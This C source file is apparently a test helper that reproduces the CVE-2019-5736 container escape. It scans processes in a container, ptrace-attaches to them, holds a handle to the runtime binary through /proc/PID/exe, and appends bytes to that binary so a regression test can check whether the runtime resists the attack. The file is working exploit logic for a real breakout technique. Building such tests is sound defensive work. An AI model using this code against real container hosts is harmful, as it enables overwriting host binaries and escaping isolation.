/* The CVE-2019-5736 attacker of test_cve_2019_5736.py, run as a container's process:
 *
 *   attack_exe TOKEN DEV INO SECS
 *
 * Watches its pid namespace (every other pid in /proc) and attacks each process again
 * whenever its command line changes (a runtime stage, then the program it executed):
 *   - PTRACE_SEIZE it (then interrupts and detaches at once): the first half of the
 *     original exploit, recorded as ptrace_errno (0: the attach worked);
 *   - open /proc/PID/exe O_PATH (exe_errno); the fd is kept when it is the runtime binary:
 *     device DEV and inode INO (the runtime's file, or a read-only bind of it), or a memfd
 *     copy ("/memfd:..." link);
 *   - over and over, reopen every kept fd for writing through /proc/self/fd/N and, when
 *     that works, append 5 bytes to the binary (the exploit's write; the test runs a copy
 *     of the runtime and compares its sha256).
 * A process whose command line contains TOKEN (the test's container ids share it) is the
 * runtime itself, before its execve ("stage": 1, if it still was after the attack); the
 * program it executed is not.
 * Prints one JSON object on SIGTERM or after SECS seconds. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define MAX_PHASES 1024
#define MAX_HELD 64

struct phase {
        int pid, stage, ptrace_errno, exe_errno, runtime;
        char cmd[80];
};

struct held {
        int pid, fd, written, write_errno;
};

static struct phase phases[MAX_PHASES];
static int nphases;
static struct held held[MAX_HELD];
static int nheld;
static const char *token;
static unsigned long long want_dev, want_ino;
/* SIGTERM is blocked: the main loop looks for it pending */
static int terminated(void)
{
        sigset_t pending;

        return sigpending(&pending) == 0 && sigismember(&pending, SIGTERM);
}

/* The command line with NULs as spaces and quotes or backslashes as '_' (JSON-safe). */
static int read_cmdline(int pid, char *buf, size_t size)
{
        char path[64];
        int fd, n;

        snprintf(path, sizeof(path), "/proc/%d/cmdline", pid);
        if ((fd = open(path, O_RDONLY | O_CLOEXEC)) < 0)
                return -1;
        n = (int)read(fd, buf, size - 1);
        close(fd);
        if (n <= 0)
                return -1;
        for (int i = 0; i < n; i++)
                if (buf[i] == '\0')
                        buf[i] = ' ';
                else if (buf[i] == '"' || buf[i] == '\\' || (unsigned char)buf[i] < 0x20)
                        buf[i] = '_';
        buf[n] = '\0';
        return 0;
}

static const struct phase *last_phase(int pid)
{
        for (int i = nphases - 1; i >= 0; i--)
                if (phases[i].pid == pid)
                        return &phases[i];
        return NULL;
}

static int try_ptrace(int pid)
{
        int status;

        if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
                return errno;
        ptrace(PTRACE_INTERRUPT, pid, 0, 0);
        /* a bounded wait for the stop (a process that exits meanwhile never stops) */
        for (int i = 0; i < 500 && waitpid(pid, &status, __WALL | WNOHANG) == 0; i++)
                usleep(1000);
        ptrace(PTRACE_DETACH, pid, 0, 0);
        return 0;
}

static void keep_if_runtime(struct phase *ph, int fd)
{
        char path[64], link[256] = "";
        struct stat st;

        snprintf(path, sizeof(path), "/proc/%d/exe", ph->pid);
        if (readlink(path, link, sizeof(link) - 1) < 0)
                link[0] = '\0';
        ph->runtime = (fstat(fd, &st) == 0 && st.st_dev == want_dev && st.st_ino == want_ino) ||
                      strncmp(link, "/memfd:", 7) == 0;
        if (ph->runtime && nheld < MAX_HELD) {
                held[nheld++] = (struct held){.pid = ph->pid, .fd = fd, .write_errno = -1};
                return;
        }
        close(fd);
}

static void attack(int pid, const char *cmd)
{
        struct phase *ph;
        char path[64], now[4096];
        int fd;

        if (nphases == MAX_PHASES)
                return;
        ph = &phases[nphases++];
        *ph = (struct phase){.pid = pid, .stage = strstr(cmd, token) != NULL};
        memcpy(ph->cmd, cmd, strnlen(cmd, sizeof(ph->cmd) - 1));
        ph->ptrace_errno = try_ptrace(pid);
        snprintf(path, sizeof(path), "/proc/%d/exe", pid);
        fd = open(path, O_PATH | O_CLOEXEC);
        ph->exe_errno = fd < 0 ? errno : 0;
        if (fd >= 0)
                keep_if_runtime(ph, fd);
        /* a stage that executed its program meanwhile was attacked as that program (the
         * next scan sees its new command line): no longer a stage */
        if (ph->stage && (read_cmdline(pid, now, sizeof(now)) < 0 || strstr(now, token) == NULL))
                ph->stage = 0;
}

static int changed(int pid, const char *cmd)
{
        const struct phase *last = last_phase(pid);

        return last == NULL || strncmp(last->cmd, cmd, sizeof(last->cmd) - 1) != 0;
}

/* Every other process of the namespace, attacked again whenever its command changed. */
static void scan(void)
{
        struct dirent **names;
        int n = scandir("/proc", &names, NULL, NULL);

        for (int i = 0; i < n; i++) {
                int pid = atoi(names[i]->d_name);
                char cmd[4096];

                if (pid > 0 && pid != getpid() && read_cmdline(pid, cmd, sizeof(cmd)) == 0 &&
                    changed(pid, cmd))
                        attack(pid, cmd);
                free(names[i]);
        }
        free(names);
}

static void try_write(void)
{
        for (int i = 0; i < nheld; i++) {
                char path[64];
                int fd;

                if (held[i].written)
                        continue;
                snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i].fd);
                fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
                if (fd < 0) {
                        held[i].write_errno = errno;
                        continue;
                }
                held[i].written = write(fd, "PWNED", 5) == 5;
                held[i].write_errno = held[i].written ? 0 : errno;
                close(fd);
        }
}

static void report(void)
{
        printf("{\"self\":%d,\"phases\":[", getpid());
        for (int i = 0; i < nphases; i++)
                printf("%s{\"pid\":%d,\"cmd\":\"%s\",\"stage\":%d,\"ptrace_errno\":%d,\"exe_errno\":%d,"
                       "\"runtime\":%d}",
                       i ? "," : "", phases[i].pid, phases[i].cmd, phases[i].stage, phases[i].ptrace_errno,
                       phases[i].exe_errno, phases[i].runtime);
        printf("],\"held\":[");
        for (int i = 0; i < nheld; i++)
                printf("%s{\"pid\":%d,\"written\":%d,\"write_errno\":%d}", i ? "," : "", held[i].pid,
                       held[i].written, held[i].write_errno);
        printf("]}\n");
        fflush(stdout);
}

int main(int argc, char **argv)
{
        sigset_t term;
        time_t end;

        if (argc != 5)
                return 2;
        token = argv[1];
        want_dev = strtoull(argv[2], NULL, 10);
        want_ino = strtoull(argv[3], NULL, 10);
        end = time(NULL) + atoi(argv[4]);
        sigemptyset(&term);
        sigaddset(&term, SIGTERM);
        sigprocmask(SIG_BLOCK, &term, NULL);
        while (!terminated() && time(NULL) < end) {
                scan();
                try_write();
                usleep(100);
        }
        report();
        return 0;
}
